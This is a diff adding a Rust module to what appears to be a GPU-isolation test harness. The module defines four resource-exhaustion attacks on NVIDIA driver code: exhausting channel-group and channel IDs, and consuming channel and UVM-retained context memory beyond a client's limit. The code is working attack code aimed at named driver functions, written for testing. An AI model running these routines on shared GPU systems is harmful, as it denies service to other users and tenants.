@@ -1,0 +1,144 @@
+// SPDX-License-Identifier: GPL-2.0
+//! Channels: ids of which a GPU has 2,044, and memory that no object shows.
+
+use super::{
+    attack::{attack, Attack, Driver, Sign},
+    scene::{told, Attacker, LIMIT, MIB, OWN},
+};
+use crate::{
+    bytes::put_u32,
+    guest::{rm, tools::Verdict, uvm},
+};
+
+pub(super) const ATTACKS: &[Attack] = &[
+    attack(
+        "all groups of channels taken",
+        "kernel_fifo.c:kfifoChidMgrAllocChannelGroupHwID_IMPL",
+        Driver::Passes,
+        Sign::Told,
+        all_groups,
+    ),
+    attack(
+        "all channels taken",
+        "kernel_fifo.c:kfifoChidMgrAllocChid_IMPL",
+        Driver::Passes,
+        Sign::Told,
+        all_channels,
+    ),
+    attack(
+        "memory of channels beyond the limit",
+        "kernel_channel.c:kchannelConstruct_IMPL",
+        Driver::Passes,
+        Sign::Told,
+        memory_of_channels,
+    ),
+    attack(
+        "memory of contexts that UVM keeps beyond the limit (UVM_REGISTER_CHANNEL)",
+        "uvm_channel_retainer.c:uvmchanrtnrConstruct_IMPL",
+        Driver::Passes,
+        Sign::Told,
+        memory_of_contexts,
+    ),
+];
+
+/// As many as nobody else could then start a program with.
+const NEARLY_ALL: u32 = 2000;
+/// More than there are.
+const MORE: u32 = 2100;
+/// Engines: compute, and one that copies.
+const COMPUTE: u32 = 1;
+const COPIES: u32 = 11;
+/// UVM_REGISTER_CHANNEL.
+const REGISTER_CHANNEL: u32 = 27;
+
+fn group(attacker: &Attacker, handle: u32, engine: u32) -> Verdict {
+    let mut params = [0; 20];
+    put_u32(&mut params, 12, engine);
+    attacker.alloc(rm::DEVICE_HANDLE, handle, 0xa06c, &mut params)
+}
+
+fn channel(attacker: &Attacker, group: u32, handle: u32) -> Verdict {
+    attacker.alloc(group, handle, 0xc86f, &mut [0; 368])
+}
+
+/// Whether so many of `what` are as good as all.
+fn nearly_all(count: u32, what: &str, end: &str) -> Verdict {
+    match count >= NEARLY_ALL {
+        true => Ok(()),
+        false => Err(format!("{end} after {count} {what}")),
+    }
+}
+
+fn all_groups(attacker: &Attacker) -> Verdict {
+    for count in 0..MORE {
+        if let Err(end) = group(attacker, OWN + count, COPIES) {
+            return nearly_all(count, "groups", &end);
+        }
+    }
+    Err("there is no end of them".to_owned())
+}
+
+fn all_channels(attacker: &Attacker) -> Verdict {
+    let mut of = OWN;
+    for count in 0..MORE {
+        let handle = OWN + 2 * count;
+        if count % 100 == 0 {
+            of = handle + 1;
+            group(attacker, of, COPIES)?;
+        }
+        if let Err(end) = channel(attacker, of, handle) {
+            return nearly_all(count, "channels", &end);
+        }
+    }
+    Err("there is no end of them".to_owned())
+}
+
+/// Takes memory until so much of the limit is left.
+fn fill(attacker: &Attacker, left: u64) -> Verdict {
+    told(attacker.client.memory(OWN, LIMIT - left).map(drop))
+}
+
+fn memory_of_channels(attacker: &Attacker) -> Verdict {
+    fill(attacker, 2 * MIB)?;
+    for count in 0..100 {
+        let handle = OWN + 1 + 2 * count;
+        let made =
+            group(attacker, handle, COPIES).and_then(|()| channel(attacker, handle, handle + 1));
+        made.map_err(|end| format!("{end} after {count} channels"))?;
+    }
+    Ok(())
+}
+
+fn memory_of_contexts(attacker: &Attacker) -> Verdict {
+    const VASPACE: u32 = OWN + 1;
+    fill(attacker, 64 * MIB)?;
+    let mut space = [0; 56];
+    // NV_VASPACE_ALLOCATION_FLAGS_IS_EXTERNALLY_OWNED and SHARED_MANAGEMENT, as CUDA has it.
+    put_u32(&mut space, 4, 0x48);
+    attacker.alloc(rm::DEVICE_HANDLE, VASPACE, 0x90f1, &mut space)?;
+    let uvm = uvm::Space::open(&attacker.folder).map_err(|e| e.to_string())?;
+    let uuid = attacker.victim.gpus.uuid;
+    told(uvm.register(&uuid, attacker.client.handle, VASPACE))?;
+    for count in 0..100 {
+        let handle = OWN + 2 + 2 * count;
+        let kept = keep_context(attacker, &uvm, handle);
+        kept.map_err(|end| format!("{end} after {count} contexts"))?;
+    }
+    Ok(())
+}
+
+/// Makes a context, has UVM keep its channel, and frees it.
+fn keep_context(attacker: &Attacker, uvm: &uvm::Space, handle: u32) -> Verdict {
+    group(attacker, handle, COMPUTE)?;
+    channel(attacker, handle, handle + 1)?;
+    let mut params = [0; 56];
+    params[..16].copy_from_slice(&attacker.victim.gpus.uuid);
+    put_u32(&mut params, 20, attacker.client.handle);
+    put_u32(&mut params, 24, handle + 1);
+    told(uvm.call(REGISTER_CHANNEL, &mut params, 48))?;
+    told(rm::free(
+        attacker.client.ctl,
+        attacker.client.handle,
+        handle,
+    ))
+}
